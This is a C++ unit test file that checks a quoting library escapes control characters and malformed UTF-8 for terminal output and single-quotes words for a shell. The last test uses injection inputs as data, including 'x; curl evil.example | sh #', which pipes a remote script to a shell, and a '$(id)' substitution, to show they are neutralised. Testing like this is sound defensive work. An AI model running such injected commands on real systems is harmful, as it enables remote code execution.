// SPDX-License-Identifier: Apache-2.0
#include "kinf/base/quote.h"

#include <doctest/doctest.h>

namespace kinf {
namespace {

TEST_CASE("text from outside is quoted so that nothing in it acts on a terminal") {
  CHECK(quoted("a\"b\\\n\x1b\x7f") == R"("a\"b\\\n\x1b\x7f")");
  CHECK(quoted("\u00a0é\u2028\xff") == R"("\u00a0é\u2028\xff")");
}

TEST_CASE("quoted text shows what a terminal would hide") {
  CHECK(quoted("") == R"("")");
  CHECK(quoted("default/web-1") == R"("default/web-1")");
  CHECK(quoted("a\"b\\c\n\t\a\b\f\r\v") == R"("a\"b\\c\n\t\a\b\f\r\v")");
  CHECK(quoted(std::string_view("\0\x1b\x7f", 3)) == R"("\x00\x1b\x7f")");
  CHECK(quoted("\xc2\x85") == R"("\u0085")");
}

TEST_CASE("quoted text keeps printable characters of any script and escapes broken ones") {
  CHECK(quoted("für 日本 🙂") == "\"für 日本 🙂\"");
  CHECK(quoted("\xff\xc3") == R"("\xff\xc3")");
  CHECK(quoted("\xc0\xaf\xed\xa0\x80") == R"("\xc0\xaf\xed\xa0\x80")");
  CHECK(quoted("\xf4\x90\x80\x80") == R"("\xf4\x90\x80\x80")");
}

TEST_CASE("A28: a word for a shell has one meaning there") {
  CHECK(shell_word("system:serviceaccount:a:b") == "system:serviceaccount:a:b");
  CHECK(shell_word("x; curl evil.example | sh #") == "'x; curl evil.example | sh #'");
  CHECK(shell_word("it's $(id)") == "'it'\\''s $(id)'");
  CHECK(shell_word("").size() == 2);
}

}  // namespace
}  // namespace kinf
